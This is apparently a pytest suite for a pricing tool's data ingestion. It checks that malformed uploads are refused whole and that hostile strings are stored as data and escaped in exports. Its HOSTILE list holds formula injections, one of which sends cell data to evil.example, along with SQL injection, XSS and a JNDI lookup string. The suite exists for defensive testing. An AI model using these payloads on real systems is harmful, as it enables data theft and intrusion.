"""Hostile input: malformed files never crash ingestion nor write part of a file,
every refusal names the file, row and column, and strings that look like SQL or
spreadsheet formulas are stored as data and escaped in every export."""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from outcome_pricing import demo, ingest
from outcome_pricing.errors import ValidationError
from outcome_pricing.ingest import uploads
from outcome_pricing.pricing import EXAMPLE_PLANS
from outcome_pricing.warehouse.handle import Warehouse

REPO = Path(__file__).resolve().parents[1]
PLANS = EXAMPLE_PLANS

HEADER = [
    "task_id", "account_id", "requester_id", "topic", "created_at", "closed_at",
    "ai_enabled", "ai_answered", "handoff", "n_issues", "csat", "quiet_hours",
]
TEXT_COLUMNS = ["task_id", "account_id", "requester_id", "topic"]
# A value per typed column that can never parse as that type, and the rule's words.
NOT_PARSEABLE = {
    "created_at": ("yesterday", "timestamp"),
    "closed_at": ("2025-13-45 99:99:99", "timestamp"),
    "ai_enabled": ("maybe", "boolean"),
    "ai_answered": ("ja", "boolean"),
    "handoff": ("2", "boolean"),
    "n_issues": ("3.5", "whole number"),
    "csat": ("five", "whole number"),
    "quiet_hours": ("inf", "finite number"),
}
HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"Click me")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "'; DROP TABLE tasks; --",
    "x') OR 1=1 --",
    '"; DELETE FROM accounts; --',
    "<script>alert('x')</script>",
    "\tTAB-LED",
    "Robert'); DROP TABLE ingest_log;--",
    "${jndi:ldap://evil.example/a}",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

_ids = itertools.count()


def good_row(n: int, **values: str) -> dict[str, str]:
    row = {
        "task_id": f"T{n}", "account_id": "A1", "requester_id": f"R{n % 3}", "topic": "billing",
        "created_at": "2025-01-02 10:00:00", "closed_at": "2025-01-02 11:30:00", "ai_enabled": "true",
        "ai_answered": "true", "handoff": "false", "n_issues": "1", "csat": "5", "quiet_hours": "30",
    }
    row.update(values)
    return row


def csv_bytes(rows: list[dict[str, str]]) -> bytes:
    buf = io.StringIO()
    writer = csv.DictWriter(buf, HEADER, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return buf.getvalue().encode("utf-8")


def fresh_rows(n: int) -> list[dict[str, str]]:
    """n valid rows with task ids never used before (the warehouse is shared by examples)."""
    return [good_row(next(_ids)) for _ in range(n)]


def snapshot(wh: Warehouse) -> tuple:
    """Everything an ingest could change: row counts, a checksum of the tasks, the log."""
    return (
        wh.scalar("SELECT count(*) FROM tasks"),
        wh.scalar("SELECT sum(hash(task_id, account_id, topic, created_at, closed_at, csat, "
                  "reopen_gap_hours)) FROM tasks"),
        wh.scalar("SELECT count(*) FROM accounts"),
        wh.scalar("SELECT count(*) FROM ingest_log"),
        wh.scalar("SELECT count(*) FROM definition_cube"),
    )


@pytest.fixture(scope="module")
def loaded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Warehouse, Path]]:
    """A warehouse already holding data (so 'nothing written' is checked against something)."""
    folder = tmp_path_factory.mktemp("hostile")
    wh = Warehouse.in_memory()
    base = folder / "base.csv"
    base.write_bytes(csv_bytes(fresh_rows(20)))
    ingest.ingest_files(wh, tasks=base)
    yield wh, folder
    wh.close()


def refused(wh: Warehouse, path: Path) -> ValidationError:
    """Ingest a file that must be refused, checking nothing changed."""
    before = snapshot(wh)
    with pytest.raises(ValidationError) as info:
        ingest.ingest_files(wh, tasks=path, tasks_name="upload.csv")
    assert snapshot(wh) == before, "a refused file changed the warehouse"
    err = info.value
    assert err.file == "upload.csv" and "upload.csv" in str(err) and "nothing was written" in str(err)
    assert err.problems and all(p.file == "upload.csv" for p in err.problems)
    return err


# ---------------------------------------------------------------------------- malformed files
class Mutation:
    """One way to spoil a valid file, and where the refusal must point."""

    @staticmethod
    def wrong_type(rows: list[dict[str, str]], i: int, column: str) -> tuple[bytes, int, str | None, str]:
        rows[i][column] = NOT_PARSEABLE[column][0]
        return csv_bytes(rows), i + 2, column, NOT_PARSEABLE[column][1]

    @staticmethod
    def truncated(rows: list[dict[str, str]], i: int, keep: int) -> tuple[bytes, int, str | None, str]:
        lines = csv_bytes(rows).decode().split("\n")
        lines[i + 1] = ",".join(lines[i + 1].split(",")[:keep])
        return "\n".join(lines).encode(), i + 2, None, "too few fields"

    @staticmethod
    def latin1(rows: list[dict[str, str]], i: int, column: str) -> tuple[bytes, int, str | None, str]:
        rows[i][column] = "Caf\uFFFF"  # placeholder replaced by a lone latin-1 byte below
        data = csv_bytes(rows).replace("Caf\uFFFF".encode(), "Café".encode("latin-1"))
        return data, i + 2, None, "UTF-8"

    @staticmethod
    def required_empty(rows: list[dict[str, str]], i: int, column: str) -> tuple[bytes, int, str | None, str]:
        rows[i][column] = "   "
        return csv_bytes(rows), i + 2, column, "required value is empty"


mutations = st.one_of(
    st.tuples(st.just(Mutation.wrong_type), st.integers(0, 5), st.sampled_from(sorted(NOT_PARSEABLE))),
    st.tuples(st.just(Mutation.truncated), st.integers(0, 5), st.integers(1, len(HEADER) - 1)),
    st.tuples(st.just(Mutation.latin1), st.integers(0, 5), st.sampled_from(TEXT_COLUMNS)),
    st.tuples(st.just(Mutation.required_empty), st.integers(0, 5), st.sampled_from(TEXT_COLUMNS)),
)


class TestMalformedFiles:
    @pytest.mark.slow
    @settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
    @given(mutation=mutations)
    def test_a_spoiled_row_is_refused_naming_file_row_and_column_and_nothing_is_written(
        self, loaded: tuple[Warehouse, Path], mutation: tuple
    ) -> None:
        wh, folder = loaded
        spoil, i, arg = mutation
        data, row, column, words = spoil(fresh_rows(6), i, arg)
        path = folder / "bad.csv"
        path.write_bytes(data)
        err = refused(wh, path)
        here = [p for p in err.problems if p.row == row]
        assert here, f"no problem on row {row}: {err}"
        assert any(words in p.rule for p in here), err
        if column is not None:
            assert any(p.column == column for p in here), err
        else:  # a parse problem still names a column where DuckDB knows one
            assert f"row {row}" in str(err)

    def test_a_utf16_file_is_refused_whole(self, loaded: tuple[Warehouse, Path]) -> None:
        wh, folder = loaded
        path = folder / "utf16.csv"
        path.write_bytes(csv_bytes(fresh_rows(3)).decode().encode("utf-16"))  # with its BOM
        err = refused(wh, path)
        assert err.problems[0].row == 1  # the header is what cannot be read

    def test_a_utf8_bom_is_accepted(self, loaded: tuple[Warehouse, Path]) -> None:
        wh, folder = loaded
        path = folder / "bom.csv"
        path.write_bytes(b"\xef\xbb\xbf" + csv_bytes(fresh_rows(3)))
        assert ingest.ingest_files(wh, tasks=path).rows_inserted == 3

    @pytest.mark.parametrize("data", [b"", b"\x00\x01\x02\xff" * 100, b"PAR1garbage", b"a,b\n\"unclosed\n"])
    def test_files_that_are_not_csv_at_all_are_refused_with_the_file_named(
        self, loaded: tuple[Warehouse, Path], data: bytes
    ) -> None:
        wh, folder = loaded
        path = folder / "junk.csv"
        path.write_bytes(data)
        refused(wh, path)

    def test_one_bad_row_among_many_refuses_the_whole_file(self, loaded: tuple[Warehouse, Path]) -> None:
        wh, folder = loaded
        rows = fresh_rows(500)
        rows[499]["csat"] = "9"
        path = folder / "late.csv"
        path.write_bytes(csv_bytes(rows))
        err = refused(wh, path)
        assert [(p.row, p.column) for p in err.problems] == [(501, "csat")]

    # DuckDB gives up on the whole file for these; the refusal still points at the row.
    def test_a_huge_field_is_refused_naming_its_row(self, loaded: tuple[Warehouse, Path]) -> None:
        wh, folder = loaded
        rows = fresh_rows(4)
        rows[2]["topic"] = "x" * 3_000_000  # above DuckDB's 2 MB line limit
        path = folder / "huge.csv"
        path.write_bytes(csv_bytes(rows))
        err = refused(wh, path)
        assert any(p.row == 4 for p in err.problems), err

    def test_a_huge_field_is_refused_without_writing(self, loaded: tuple[Warehouse, Path]) -> None:
        wh, folder = loaded
        rows = fresh_rows(4)
        rows[2]["topic"] = "x," * 1_500_000
        path = folder / "huge.csv"
        path.write_bytes(csv_bytes(rows))
        refused(wh, path)

    def test_an_unterminated_quote_is_refused_naming_its_row(self, loaded: tuple[Warehouse, Path]) -> None:
        wh, folder = loaded
        data = csv_bytes(fresh_rows(4)).decode().split("\n")
        data[3] = data[3].replace(",billing,", ',"billing,')
        path = folder / "quote.csv"
        path.write_text("\n".join(data), encoding="utf-8")
        err = refused(wh, path)
        assert any(p.row == 4 for p in err.problems), err


class TestUploadLimit:
    def test_an_upload_above_the_limit_is_refused_before_reading(
        self, loaded: tuple[Warehouse, Path], monkeypatch: pytest.MonkeyPatch
    ) -> None:
        wh, _ = loaded
        data = csv_bytes(fresh_rows(50))
        monkeypatch.setattr(uploads, "MAX_UPLOAD_BYTES", len(data) - 1)
        before = snapshot(wh)
        with pytest.raises(ValidationError, match="above the upload limit") as info:
            ingest.ingest_uploads(wh, ingest.Upload("big.csv", data))
        assert info.value.file == "big.csv" and snapshot(wh) == before

    def test_the_engine_limit_agrees_with_the_app_server_limit(self) -> None:
        import tomllib

        config = tomllib.loads((REPO / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
        assert config["server"]["maxUploadSize"] * 1024 * 1024 == ingest.MAX_UPLOAD_BYTES

    def test_an_upload_name_is_a_label_never_a_path(self, loaded: tuple[Warehouse, Path], tmp_path: Path) -> None:
        wh, _ = loaded
        name = "../../" + str(tmp_path / "escaped") + ".csv"
        report = ingest.ingest_uploads(wh, ingest.Upload(name, csv_bytes(fresh_rows(2))))
        assert report.rows_inserted == 2
        assert not (tmp_path / "escaped.csv").exists()
        assert wh.ingest_log().iloc[0]["source"] == name


# ---------------------------------------------------------------------------- stored as data
hostile_text = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(st.characters(exclude_categories=("Cs", "Cc")), min_size=1, max_size=60).filter(str.strip),
)


class TestHostileStringsAreData:
    @pytest.mark.slow
    @settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
    @given(value=hostile_text, column=st.sampled_from(TEXT_COLUMNS))
    def test_any_text_is_stored_verbatim(self, loaded: tuple[Warehouse, Path], value: str, column: str) -> None:
        wh, folder = loaded
        rows = fresh_rows(2)
        if column == "task_id":
            value = f"{value}#{next(_ids)}"  # unique, so it is an insert
        rows[1][column] = value
        path = folder / "hostile.csv"
        path.write_bytes(csv_bytes(rows))
        tables = wh.scalar("SELECT count(*) FROM information_schema.tables")
        ingest.ingest_files(wh, tasks=path)
        stored = wh.scalar(f"SELECT {column} FROM tasks WHERE task_id = ?", [rows[1]["task_id"]])
        assert stored == value
        assert wh.scalar("SELECT count(*) FROM information_schema.tables") == tables


# ---------------------------------------------------------------------------- exports
HOSTILE_ID = HOSTILE[0]
HOSTILE_NAME = "+1+1 <script>alert('x')</script>"
HOSTILE_TOPIC = "@SUM(A1:A9)"


@pytest.fixture(scope="module")
def hostile_wh(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Warehouse]:
    """Demo data whose biggest account is re-ingested under a formula id, an HTML name and SQL text."""
    folder = tmp_path_factory.mktemp("hostile_exports")
    wh = Warehouse.in_memory()
    demo.build_demo(wh, tasks=3_000, accounts=4, months=6, seed=2)
    big = wh.scalar("SELECT account_id FROM tasks GROUP BY 1 ORDER BY count(*) DESC LIMIT 1")
    tasks = wh.query_df("SELECT * EXCLUDE (month, reopen_gap_hours) FROM tasks WHERE account_id = ?", [big])
    tasks["task_id"] = "H-" + tasks["task_id"]
    tasks["account_id"] = HOSTILE_ID
    tasks["topic"] = HOSTILE_TOPIC
    tasks["requester_id"] = "'; DROP TABLE tasks; --" + tasks["requester_id"]
    accounts = wh.query_df("SELECT * FROM accounts WHERE account_id = ?", [big])
    accounts["account_id"], accounts["name"], accounts["owner"] = HOSTILE_ID, HOSTILE_NAME, "=1+1"
    tasks.to_csv(folder / "t.csv", index=False)
    accounts.to_csv(folder / "a.csv", index=False)
    ingest.ingest_files(wh, tasks=folder / "t.csv", accounts=folder / "a.csv")
    yield wh
    wh.close()


def last_month(wh: Warehouse) -> str:
    return str(wh.scalar("SELECT strftime(max(month), '%Y-%m') FROM tasks WHERE account_id = ?", [HOSTILE_ID]))


def assert_spreadsheet_safe(cells: list[str]) -> None:
    """No text cell would run as a formula; the hostile values are there, neutralised."""
    numeric = re.compile(r"^-?\d[\d,]*(\.\d+)?$")
    for cell in cells:
        assert not cell.startswith(FORMULA_START) or numeric.match(cell), cell
    assert "'" + HOSTILE_ID in cells


class TestExportsEscapeHostileText:
    def test_stored_verbatim_and_the_sql_did_not_run(self, hostile_wh: Warehouse) -> None:
        assert hostile_wh.scalar("SELECT name FROM accounts WHERE account_id = ?", [HOSTILE_ID]) == HOSTILE_NAME
        assert hostile_wh.scalar("SELECT count(*) FROM tasks WHERE topic = ?", [HOSTILE_TOPIC]) > 0
        assert hostile_wh.scalar("SELECT count(*) FROM tasks WHERE account_id <> ?", [HOSTILE_ID]) > 0

    def _statement(self, wh: Warehouse):  # noqa: ANN202
        from outcome_pricing.pricing import statements
        from outcome_pricing.pricing.plans import PlanSet
        from outcome_pricing.rules import Definition

        planset = PlanSet.from_toml(PLANS)
        return statements.statement(wh, planset, planset.plans[0].name, Definition.preset("zendesk-ar"),
                                    HOSTILE_ID, last_month(wh))

    def test_statement_csv(self, hostile_wh: Warehouse) -> None:
        text = self._statement(hostile_wh).to_csv().decode("utf-8")
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert_spreadsheet_safe(cells)
        assert any(c.startswith("'" + HOSTILE_NAME) for c in cells)  # the header's account cell

    def test_statement_xlsx_has_no_formula_and_quotes_the_text(self, hostile_wh: Warehouse) -> None:
        book = zipfile.ZipFile(io.BytesIO(self._statement(hostile_wh).to_xlsx()))
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in book.read(n) or b"<f " in book.read(n) for n in sheets)
        strings = re.findall(r"<t[^>]*>([^<]*)</t>", book.read("xl/sharedStrings.xml").decode())
        import html

        assert_spreadsheet_safe([html.unescape(s) for s in strings])

    def test_roi_report_html_escapes_the_account_name(self, hostile_wh: Warehouse) -> None:
        from outcome_pricing.analysis import roi
        from outcome_pricing.pricing.plans import PlanSet
        from outcome_pricing.reports import roi_report as report
        from outcome_pricing.rules import Definition

        ctx = roi.CaseContext(PlanSet.from_toml(PLANS), "per-outcome", Definition.preset("zendesk-ar"))
        case = roi.case_for_account(hostile_wh, HOSTILE_ID, ctx)
        page = report.render_html(case)
        assert "<script>alert" not in page
        assert "&lt;script&gt;alert(" in page

    def test_roi_report_html_escapes_a_prospect_name(self, hostile_wh: Warehouse) -> None:
        from outcome_pricing.analysis import roi
        from outcome_pricing.pricing.plans import PlanSet
        from outcome_pricing.reports import roi_report as report
        from outcome_pricing.rules import Definition

        ctx = roi.CaseContext(PlanSet.from_toml(PLANS), "per-outcome", Definition.preset("zendesk-ar"))
        p = roi.Prospect('"><img src=x onerror=alert(1)>', 10_000, 8.0, 40.0, 20, 90.0)
        page = report.render_html(roi.case_for_prospect(hostile_wh, p, ctx))
        assert "<img src=x" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page

    def test_executive_brief_html_escapes_the_account_name(self, hostile_wh: Warehouse) -> None:
        from outcome_pricing.pricing.plans import PlanSet
        from outcome_pricing.reports import brief, overview
        from outcome_pricing.rules import Definition

        ov = overview.overview(hostile_wh, PlanSet.from_toml(PLANS), Definition.preset("zendesk-ar"),
                               "seats-today", "per-outcome")
        page = brief.render_html(ov, None)
        assert "<script>alert" not in page
        assert "&lt;script&gt;alert(" in page  # the hostile account is the biggest mover

    @pytest.mark.parametrize("command", ["outcomes", "backtest"])
    def test_cli_csv_is_formula_safe_and_json_is_verbatim(
        self, command: str, hostile_wh: Warehouse, tmp_path: Path,
        capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
    ) -> None:
        from outcome_pricing.cli import main

        db = tmp_path / "h.duckdb"
        with Warehouse.open(db) as disk:
            frame = hostile_wh.query_df("SELECT * EXCLUDE (month, reopen_gap_hours) FROM tasks")
            frame.to_csv(tmp_path / "t.csv", index=False)
            hostile_wh.query_df("SELECT * FROM accounts").to_csv(tmp_path / "a.csv", index=False)
            ingest.ingest_files(disk, tasks=tmp_path / "t.csv", accounts=tmp_path / "a.csv")
        outputs = {}
        for fmt in ("csv", "json"):
            args = [command, "--definition", "zendesk-ar", "--format", fmt]
            if command == "backtest":
                args[1:1] = ["--plans", str(PLANS)]
            monkeypatch.setattr(sys, "argv", ["outcome-pricing", "--db", str(db), *args])
            main()
            outputs[fmt] = capsys.readouterr().out
        cells = [c for row in csv.reader(io.StringIO(outputs["csv"])) for c in row]
        assert_spreadsheet_safe(cells)
        assert HOSTILE_ID in {r["account_id"] for r in json.loads(outputs["json"])}


# ---------------------------------------------------------------------------- values as data
SQLISH = [h for h in HOSTILE if any(k in h for k in ("DROP", "DELETE", "OR 1=1"))]


class TestUserValuesNeverBecomeSql:
    """Every engine entry that takes a user's string binds it: an SQL-looking value is
    an unknown account / definition / plan / grouping, never a statement."""

    @pytest.mark.parametrize("value", SQLISH)
    def test_sql_looking_values_are_refused_as_unknown_and_change_nothing(
        self, hostile_wh: Warehouse, value: str
    ) -> None:
        from outcome_pricing.analysis import roi
        from outcome_pricing.errors import OutcomePricingError
        from outcome_pricing.pricing import statements
        from outcome_pricing.pricing.plans import PlanSet
        from outcome_pricing.proof import impact
        from outcome_pricing.rules import Definition, evaluate_tasks

        before = snapshot(hostile_wh)
        d = Definition.preset("zendesk-ar")
        planset = PlanSet.from_toml(PLANS)
        assert evaluate_tasks(hostile_wh, d, account_id=value).empty
        refusals = [
            lambda: impact.impact_summary(hostile_wh, value),
            lambda: statements.statement(hostile_wh, planset, planset.plans[0].name, d, value, "2026-01"),
            lambda: hostile_wh.outcomes(d, by=(value,)),
            lambda: Definition.preset(value),
            lambda: planset.plan(value),
            lambda: roi.case_for_account(hostile_wh, value, roi.CaseContext(planset, "per-outcome", d)),
        ]
        for call in refusals:
            with pytest.raises(OutcomePricingError):
                call()
        assert snapshot(hostile_wh) == before


# ---------------------------------------------------------------------------- links
LINK_VALUES = [*HOSTILE, "x" * 5_000, "nan", "-1e309", "1e309", "", "0x1F", "2026-13", "☃" * 50]


def link_params(offset: int) -> dict[str, str]:
    """A hostile value for every query parameter a page or the scenario reads."""
    import dataclasses

    from outcome_pricing.rules import Definition
    from tests.appmodules import app_module

    keys = ["def", "reference_plan", "proposed_plan", "account", *app_module("roi_link").URL_KEYS]
    keys += [f"d_{f.name}" for f in dataclasses.fields(Definition)]
    keys = list(dict.fromkeys(keys))
    params = {k: LINK_VALUES[(i + offset) % len(LINK_VALUES)] for i, k in enumerate(keys)}
    params["def"] = "custom"  # so every d_ knob is read
    return params


@pytest.mark.usefixtures("app_env")
class TestHostileLinks:
    @pytest.mark.slow
    @pytest.mark.parametrize("offset", [0, 7])
    @pytest.mark.parametrize(
        "view", ["overview.py", "resolution_rules.py", "price_lab.py", "forecast.py", "statements.py",
                 "ai_impact.py", "roi_case.py", "data.py"],
    )
    def test_every_page_survives_hostile_query_parameters(
        self, view: str, offset: int, demo_wh: Warehouse
    ) -> None:
        from streamlit.testing.v1 import AppTest

        if not (REPO / "app" / "views" / view).exists():
            pytest.skip(f"{view} not written yet")
        before = snapshot(demo_wh)
        at = AppTest.from_file(str(REPO / "app" / "streamlit_app.py"), default_timeout=120)
        at.run()
        at.query_params.update(link_params(offset))  # as if the link pointed at this page
        at.switch_page(f"views/{view}").run()
        assert not at.exception, [e.value for e in at.exception]
        assert snapshot(demo_wh) == before


# ---------------------------------------------------------------------------- messages (issue 13)
class TestMessagesSayWhatTheFileIs:
    def test_a_truncated_gzip_is_reported_as_a_truncated_gzip(self, loaded: tuple[Warehouse, Path]) -> None:
        import gzip

        wh, folder = loaded
        whole = gzip.compress(csv_bytes(fresh_rows(2000)))
        path = folder / "cut.csv.gz"
        path.write_bytes(whole[: len(whole) // 2])
        err = refused(wh, path)
        assert "gzip" in str(err) and "truncated" in str(err), err
        assert "UTF-8" not in str(err), err

    def test_a_corrupt_gzip_is_reported_as_one(self, loaded: tuple[Warehouse, Path]) -> None:
        wh, folder = loaded
        path = folder / "junk.csv.gz"
        path.write_bytes(b"\x1f\x8b\x08\x00" + b"\xff" * 200)
        err = refused(wh, path)
        assert "gzip" in str(err) and "UTF-8" not in str(err), err

    @pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
    def test_a_utf16_file_says_its_encoding_not_missing_columns(
        self, loaded: tuple[Warehouse, Path], encoding: str
    ) -> None:
        wh, folder = loaded
        path = folder / "wide.csv"
        path.write_bytes(csv_bytes(fresh_rows(3)).decode().encode(encoding))
        err = refused(wh, path)
        assert len(err.problems) == 1 and ("UTF-16" in err.problems[0].rule or "UTF-32" in err.problems[0].rule), err
        assert "missing" not in str(err), err

    def test_a_utf16_gzip_says_its_encoding(self, loaded: tuple[Warehouse, Path]) -> None:
        import gzip

        wh, folder = loaded
        path = folder / "wide.csv.gz"
        path.write_bytes(gzip.compress(csv_bytes(fresh_rows(3)).decode().encode("utf-16")))
        err = refused(wh, path)
        assert "UTF-16" in str(err) and "missing" not in str(err), err

    @pytest.mark.parametrize("stamp", [
        "2025-01-02 10:00:00+99:00", "2025-01-02T10:00:00-15:00", "2025-01-02 10:00:00+14:01",
        "2025-01-02T10:00:00+1430",
    ])
    def test_an_offset_beyond_14_hours_is_refused(self, loaded: tuple[Warehouse, Path], stamp: str) -> None:
        wh, folder = loaded
        rows = fresh_rows(3)
        rows[1]["created_at"] = stamp
        rows[1]["closed_at"] = "2025-01-05 10:00:00"
        path = folder / "offset.csv"
        path.write_bytes(csv_bytes(rows))
        err = refused(wh, path)
        assert [(p.row, p.column) for p in err.problems] == [(3, "created_at")], err
        assert "offset" in err.problems[0].rule

    @pytest.mark.parametrize("stamp", [
        "2025-01-02 10:00:00+14:00", "2025-01-02T10:00:00-12:00", "2025-01-02T10:00:00.250+05:30",
        "2025-01-02T10:00:00Z", "2025-01-02 10:00:00",
    ])
    def test_real_offsets_are_accepted_and_converted(self, loaded: tuple[Warehouse, Path], stamp: str) -> None:
        import datetime as dt

        wh, folder = loaded
        rows = fresh_rows(1)
        rows[0]["created_at"] = stamp
        rows[0]["closed_at"] = "2025-01-05 10:00:00"
        path = folder / "offset_ok.csv"
        path.write_bytes(csv_bytes(rows))
        ingest.ingest_files(wh, tasks=path)
        stored = wh.scalar("SELECT created_at FROM tasks WHERE task_id = ?", [rows[0]["task_id"]])
        expected = dt.datetime.fromisoformat(stamp.replace("Z", "+00:00"))
        if expected.tzinfo is not None:
            expected = expected.astimezone(dt.UTC).replace(tzinfo=None)
        assert stored == expected
